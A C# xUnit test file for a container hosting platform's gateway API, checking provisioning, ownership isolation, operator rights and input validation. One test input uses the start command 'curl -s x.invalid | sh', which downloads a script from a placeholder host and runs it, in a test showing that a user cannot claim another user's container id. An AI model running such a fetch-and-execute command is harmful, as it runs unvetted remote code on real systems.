using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using ZlhGrind.Gateway.Tests.TestSupport;
using ZlhGrind.Grains.Containers;

namespace ZlhGrind.Gateway.Tests.Api;

[Collection(GatewayCollection.Name)]
public sealed class ApiTests(GatewayFixture fixture)
{
    [Fact]
    public async Task ProvisionGame_WithoutId_AllocatesIdAndReturnsCredentialOnce()
    {
        using var portal = fixture.CreateClient(TestTokens.For("api-game"));

        var response = await portal.PostAsJsonAsync("/api/servers", new { template = "generic", startCommand = "java -jar server.jar nogui", stopCommand = "stop", memoryMb = 2048 });
        var result = await response.Content.ReadFromJsonAsync<ProvisionResult>(Json.Options);

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        Assert.Equal($"/api/servers/{result!.ContainerId}/status", response.Headers.Location?.OriginalString);
        Assert.True(ContainerId.IsValid(result.ContainerId));
        Assert.Equal(ContainerKind.Game, result.Kind);
        Assert.Equal(43, result.AgentCredential.Length);
        Assert.Equal("api-game", result.Status.OwnerId);
        var status = await portal.GetFromJsonAsync<ContainerStatus>($"/api/servers/{result.ContainerId}/status", Json.Options);
        Assert.Equal("Provisioning", status!.State);
        var raw = await portal.GetStringAsync($"/api/servers/{result.ContainerId}/status");
        Assert.DoesNotContain(result.AgentCredential, raw, StringComparison.Ordinal);

        // The portal page reads these names as they are.
        Assert.Contains("\"kind\":\"Game\"", raw, StringComparison.Ordinal);
        Assert.Contains("\"connectivity\":\"Unknown\"", raw, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ProvisionDev_OperatorAdoptsAVmidForAUser_UsesItAndStatusCarriesDevPart()
    {
        const long Id = 777_000_001;
        using var operatorPortal = fixture.CreateClient(TestTokens.For("api-ops", isOperator: true));
        using var owner = fixture.CreateClient(TestTokens.For("api-dev"));

        var response = await operatorPortal.PostAsJsonAsync("/api/dev", new { id = Id, ownerId = "api-dev", runtime = "node", version = "22.1.0", enableCodeServer = true });
        var again = await operatorPortal.PostAsJsonAsync("/api/dev", new { id = Id, ownerId = "api-dev", runtime = "node" });
        var status = await owner.GetFromJsonAsync<ContainerStatus>($"/api/servers/{Id}/status", Json.Options);

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        Assert.Equal(HttpStatusCode.Conflict, again.StatusCode);
        Assert.Equal($"Container {Id} is already provisioned.", (await again.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("detail").GetString());
        Assert.Equal("api-dev", status!.OwnerId);
        Assert.Equal(ContainerKind.Dev, status.Kind);
        Assert.False(status.Dev!.ProvisioningComplete);
        Assert.Equal("node", status.Dev.Runtime);
        Assert.True(status.Dev.CodeServerEnabled);
    }

    [Theory]
    [InlineData("/api/servers", "{\"id\":IDENT,\"template\":\"generic\",\"startCommand\":\"curl -s x.invalid | sh\",\"memoryMb\":1024}")]
    [InlineData("/api/dev", "{\"id\":IDENT,\"runtime\":\"node\"}")]
    public async Task Provision_UserNamesAnId_SameRefusalWhetherItExistsAndTheVictimIsUntouched(string path, string body)
    {
        var victimId = await ProvisionGameAsync("api-victim");
        using var victim = fixture.CreateClient(TestTokens.For("api-victim"));
        using var mallory = fixture.CreateClient(TestTokens.For("api-mallory"));
        var before = await victim.GetStringAsync($"/api/servers/{victimId}/status");

        // The one id exists, the other has never been provisioned: the answers must not tell them apart.
        var taken = await mallory.PostAsync(path, new StringContent(body.Replace("IDENT", victimId.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal), Encoding.UTF8, "application/json"));
        var free = await mallory.PostAsync(path, new StringContent(body.Replace("IDENT", "999999001", StringComparison.Ordinal), Encoding.UTF8, "application/json"));

        foreach (var response in new[] { taken, free })
        {
            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
            var problem = await response.Content.ReadFromJsonAsync<JsonElement>();
            Assert.Equal("Only operators may choose a container id; leave id out and the platform assigns one.", problem.GetProperty("detail").GetString());
        }

        Assert.Equal(HttpStatusCode.NotFound, (await mallory.GetAsync("/api/servers/999999001/status")).StatusCode);
        Assert.Equal(before, await victim.GetStringAsync($"/api/servers/{victimId}/status"));
    }

    [Fact]
    public async Task Provision_UserNamesAnOwner_400AndNothingIsCreated()
    {
        using var mallory = fixture.CreateClient(TestTokens.For("api-mallory-owner"));

        var response = await mallory.PostAsJsonAsync("/api/servers", new { ownerId = "api-victim", template = "generic", startCommand = "x", memoryMb = 1024 });

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("Only operators may provision for another user; leave ownerId out.", (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("detail").GetString());
        Assert.Equal("[]", await mallory.GetStringAsync("/api/servers"));
    }

    [Fact]
    public async Task Power_Stop_AcceptedAndRecordedInDesiredGeneration()
    {
        var id = await ProvisionGameAsync("api-power");
        using var portal = fixture.CreateClient(TestTokens.For("api-power"));
        var before = await portal.GetFromJsonAsync<ContainerStatus>($"/api/servers/{id}/status", Json.Options);

        var response = await portal.PostAsJsonAsync($"/api/servers/{id}/power", new { action = "STOP" });
        var status = await response.Content.ReadFromJsonAsync<ContainerStatus>(Json.Options);

        Assert.Equal(HttpStatusCode.Accepted, response.StatusCode);
        Assert.Equal(before!.DesiredGeneration + 1, status!.DesiredGeneration);
        Assert.Equal("Stopped", status.Game!.DesiredPower);
    }

    [Fact]
    public async Task Power_StartWhileProvisioning_409ProblemWithReason()
    {
        var id = await ProvisionGameAsync("api-power-early");
        using var portal = fixture.CreateClient(TestTokens.For("api-power-early"));

        var response = await portal.PostAsJsonAsync($"/api/servers/{id}/power", new { action = "start" });
        var problem = await response.Content.ReadFromJsonAsync<JsonElement>();

        Assert.Equal(HttpStatusCode.Conflict, response.StatusCode);
        Assert.Contains("still provisioning", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Crashes_NewServer_EmptyList()
    {
        var id = await ProvisionGameAsync("api-crashes");
        using var portal = fixture.CreateClient(TestTokens.For("api-crashes"));

        var response = await portal.GetAsync($"/api/servers/{id}/crashes");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("[]", await response.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task CodeServer_Stop_AcceptedAndReflectedInDesiredSpec()
    {
        var (id, _) = await fixture.ProvisionDevAsync("api-codeserver");
        using var portal = fixture.CreateClient(TestTokens.For("api-codeserver"));

        var response = await portal.PostAsync($"/api/dev/{id}/codeserver/stop", null);

        Assert.Equal(HttpStatusCode.Accepted, response.StatusCode);
    }

    [Fact]
    public async Task List_User_SeesOnlyOwnContainersAndOperatorSeesAll()
    {
        var mine = await ProvisionGameAsync("api-list-a");
        var theirs = await ProvisionGameAsync("api-list-b");
        using var a = fixture.CreateClient(TestTokens.For("api-list-a"));
        using var ops = fixture.CreateClient(TestTokens.For("api-list-ops", isOperator: true));

        var own = await a.GetFromJsonAsync<List<ContainerSummary>>("/api/servers?kind=game", Json.Options);
        var all = await ops.GetFromJsonAsync<List<ContainerSummary>>("/api/admin/containers", Json.Options);

        Assert.Equal([mine], own!.Select(c => c.ContainerId));
        Assert.Contains(all!, c => c.ContainerId == mine);
        Assert.Contains(all!, c => c.ContainerId == theirs);
    }

    [Fact]
    public async Task EveryContainerRoute_NonOwner_404AndOperator_Allowed()
    {
        var game = await ProvisionGameAsync("api-owner");
        var (dev, _) = await fixture.ProvisionDevAsync("api-owner");
        using var stranger = fixture.CreateClient(TestTokens.For("api-stranger"));
        using var ops = fixture.CreateClient(TestTokens.For("api-ops", isOperator: true));

        var routes = new (HttpMethod Method, string Path, object? Body)[]
        {
            (HttpMethod.Get, $"/api/servers/{game}/status", null),
            (HttpMethod.Get, $"/api/servers/{dev}/status", null),
            (HttpMethod.Post, $"/api/servers/{game}/power", new { action = "kill" }),
            (HttpMethod.Get, $"/api/servers/{game}/crashes", null),
            (HttpMethod.Get, $"/api/servers/{game}/events", null),
            (HttpMethod.Get, $"/api/servers/{dev}/events", null),
            (HttpMethod.Post, $"/api/dev/{dev}/codeserver/restart", null),
            (HttpMethod.Post, $"/api/dev/{dev}/ide-token", null),
            (HttpMethod.Delete, $"/api/dev/{dev}/ide-sessions", null),
        };

        foreach (var (method, path, body) in routes)
        {
            using var refused = await SendAsync(stranger, method, path, body);
            Assert.True(refused.StatusCode == HttpStatusCode.NotFound, $"{method} {path} gave {refused.StatusCode}");
            Assert.Equal("application/problem+json", refused.Content.Headers.ContentType?.MediaType);

            using var allowed = await SendAsync(ops, method, path, body, HttpCompletionOption.ResponseHeadersRead);
            Assert.True(allowed.IsSuccessStatusCode, $"operator {method} {path} gave {allowed.StatusCode}");
        }
    }

    [Fact]
    public async Task WrongKind_GameRouteOnDevContainer_404()
    {
        var (dev, _) = await fixture.ProvisionDevAsync("api-kind");
        var game = await ProvisionGameAsync("api-kind");
        using var portal = fixture.CreateClient(TestTokens.For("api-kind"));

        Assert.Equal(HttpStatusCode.NotFound, (await portal.PostAsJsonAsync($"/api/servers/{dev}/power", new { action = "start" })).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await portal.GetAsync($"/api/servers/{dev}/crashes")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await portal.PostAsync($"/api/dev/{game}/ide-token", null)).StatusCode);
    }

    [Theory]
    [InlineData("/api/servers/abc/status")]
    [InlineData("/api/servers/99/status")]
    [InlineData("/api/servers/0100/status")]
    [InlineData("/api/servers/1000000000/status")]
    [InlineData("/api/servers/99999999999999999999999/status")]
    [InlineData("/api/servers/-1/status")]
    [InlineData("/api/servers/1e3/status")]
    [InlineData("/api/servers/555555555/status")]
    public async Task Status_BadOrUnknownId_404ProblemNever500(string path)
    {
        using var portal = fixture.CreateClient(TestTokens.For("api-bad-id"));

        var response = await portal.GetAsync(path);

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
    }

    [Theory]
    [InlineData("/api/servers", "{not json")]
    [InlineData("/api/servers", "[]")]
    [InlineData("/api/servers", "{\"template\":\"mc\",\"startCommand\":\"x\"}")]
    [InlineData("/api/servers", "{\"template\":\"mc\",\"startCommand\":\"x\",\"memoryMb\":\"lots\"}")]
    [InlineData("/api/servers", "{\"template\":\"mc\",\"startCommand\":\"x\",\"memoryMb\":-5}")]
    [InlineData("/api/servers", "{\"id\":5,\"template\":\"mc\",\"startCommand\":\"x\",\"memoryMb\":512}")]
    [InlineData("/api/dev", "{\"runtime\":\"cobol\"}")]
    [InlineData("/api/dev", "{\"runtime\":\"node\",\"version\":\"0.0.1\"}")]
    [InlineData("/api/dev", "{}")]
    [InlineData("/api/dev", "")]
    public async Task Provision_BadInput_400ProblemWithReason(string path, string body)
    {
        using var portal = fixture.CreateClient(TestTokens.For("api-bad-body"));

        var response = await portal.PostAsync(path, new StringContent(body, Encoding.UTF8, "application/json"));
        var problem = await response.Content.ReadFromJsonAsync<JsonElement>();

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal(400, problem.GetProperty("status").GetInt32());
        Assert.False(string.IsNullOrWhiteSpace(problem.GetProperty("detail").GetString()));
    }

    [Theory]
    [InlineData("{\"action\":\"fly\"}")]
    [InlineData("{\"action\":4}")]
    [InlineData("{}")]
    public async Task Power_UnknownAction_400(string body)
    {
        var id = await ProvisionGameAsync("api-bad-action");
        using var portal = fixture.CreateClient(TestTokens.For("api-bad-action"));

        var response = await portal.PostAsync($"/api/servers/{id}/power", new StringContent(body, Encoding.UTF8, "application/json"));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
    }

    [Fact]
    public async Task CodeServer_UnknownAction_400()
    {
        var (id, _) = await fixture.ProvisionDevAsync("api-bad-cs");
        using var portal = fixture.CreateClient(TestTokens.For("api-bad-cs"));

        var response = await portal.PostAsync($"/api/dev/{id}/codeserver/explode", null);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
    }

    [Fact]
    public async Task Provision_OversizedBody_413Problem()
    {
        using var portal = fixture.CreateClient(TestTokens.For("api-big"));
        var body = "{\"template\":\"" + new string('m', 20_000) + "\",\"startCommand\":\"x\",\"memoryMb\":1}";

        var response = await portal.PostAsync("/api/servers", new StringContent(body, Encoding.UTF8, "application/json"));

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
    }

    [Fact]
    public async Task Provision_OversizedChunkedBody_413Problem()
    {
        using var portal = fixture.CreateClient(TestTokens.For("api-big-chunked"));
        var body = "{\"template\":\"" + new string('m', 20_000) + "\",\"startCommand\":\"x\",\"memoryMb\":1}";
        using var content = new StreamContent(new MemoryStream(Encoding.UTF8.GetBytes(body)));
        content.Headers.ContentType = new("application/json");

        var response = await portal.SendAsync(new HttpRequestMessage(HttpMethod.Post, "/api/servers") { Content = content, Headers = { TransferEncodingChunked = true } });

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
    }

    private async Task<long> ProvisionGameAsync(string userId)
    {
        using var portal = fixture.CreateClient(TestTokens.For(userId));
        var response = await portal.PostAsJsonAsync("/api/servers", new { template = "generic", startCommand = "java -jar server.jar nogui", stopCommand = "stop", memoryMb = 2048 });
        return (await response.EnsureSuccessStatusCode().Content.ReadFromJsonAsync<ProvisionResult>(Json.Options))!.ContainerId;
    }

    private static Task<HttpResponseMessage> SendAsync(HttpClient client, HttpMethod method, string path, object? body, HttpCompletionOption completion = HttpCompletionOption.ResponseContentRead)
    {
        var request = new HttpRequestMessage(method, path);
        if (body is not null)
        {
            request.Content = JsonContent.Create(body);
        }

        return client.SendAsync(request, completion);
    }
}
